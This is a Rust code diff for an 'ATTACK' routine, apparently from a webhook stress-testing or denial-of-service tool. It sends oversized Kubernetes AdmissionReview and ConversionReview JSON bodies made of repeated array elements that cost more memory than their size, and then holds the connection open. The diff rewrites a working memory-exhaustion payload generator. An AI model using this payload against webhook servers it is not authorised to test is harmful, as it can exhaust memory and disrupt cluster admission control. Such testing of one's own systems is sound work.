@@ -16,26 +16,30 @@ pub(super) const ATTACK: Attack = Attack {
 
 async fn once(aim: Aim) -> Result<()> {
     let mut stream = aim.connect().await?;
-    let (path, review, rest) = match fastrand::u8(..3) {
-        0 => (
-            "/convert",
-            "{\"apiVersion\":\"apiextensions.k8s.io/v1\",\"kind\":\"ConversionReview\",\"request\":{\"uid\":\"a\",\
-             \"desiredAPIVersion\":\"example.com/v2\",\"objects\":[0",
-            "]}}",
-        ),
-        1 => ("/mutate-example-com-v1-thing", NUMBERS, "]}}}}"),
-        _ => ("/validate-example-com-v1-thing", NUMBERS, "]}}}}"),
-    };
-    let size = fastrand::usize(1 << 20..LARGEST) - review.len() - rest.len();
-    let body = format!("{review}{}{rest}", ",0".repeat(size / 2));
-    let head = format!(
-        "POST {path} HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
-        body.len()
-    );
+    let post = aim.requests.any_post();
+    let (before, value, after) =
+        if post.starts_with("POST /convert ") { CONVERSION } else { REVIEWS[fastrand::usize(..REVIEWS.len())] };
+    let size = fastrand::usize(1 << 20..LARGEST) - before.len() - after.len();
+    let body = format!("{before}{value}{}{after}", format!(",{value}").repeat(size / (value.len() + 1) - 1));
+    let head = format!("{post}connection: close\r\ncontent-length: {}\r\n\r\n", body.len());
     stream.write_all(format!("{head}{body}").as_bytes()).await?;
     aim.hold(stream).await;
     Ok(())
 }
 
-const NUMBERS: &str = "{\"apiVersion\":\"admission.k8s.io/v1\",\"kind\":\"AdmissionReview\",\"request\":{\"uid\":\"a\",\
-    \"object\":{\"apiVersion\":\"example.com/v1\",\"kind\":\"Thing\",\"metadata\":{\"name\":\"a\"},\"spec\":{\"numbers\":[0";
+/// The text before the values, a value, and the text after the values.
+type Body = (&'static str, &'static str, &'static str);
+
+const CONVERSION: Body = (
+    "{\"apiVersion\":\"apiextensions.k8s.io/v1\",\"kind\":\"ConversionReview\",\"request\":{\"uid\":\"a\",\
+     \"desiredAPIVersion\":\"example.com/v2\",\"objects\":[",
+    "0",
+    "]}}",
+);
+/// Lists that each object may have, whose elements need more memory than text.
+const REVIEWS: [Body; 4] = [
+    ("{\"request\":{\"uid\":\"a\",\"object\":{\"metadata\":{},\"spec\":{\"numbers\":[", "0", "]}}}}"),
+    ("{\"request\":{\"uid\":\"a\",\"object\":{\"spec\":{},\"metadata\":{\"finalizers\":[", "\"\"", "]}}}}"),
+    ("{\"request\":{\"uid\":\"a\",\"object\":{\"spec\":{},\"metadata\":{\"ownerReferences\":[", "{}", "]}}}}"),
+    ("{\"request\":{\"uid\":\"a\",\"object\":{\"spec\":{},\"metadata\":{\"managedFields\":[", "{}", "]}}}}"),
+];
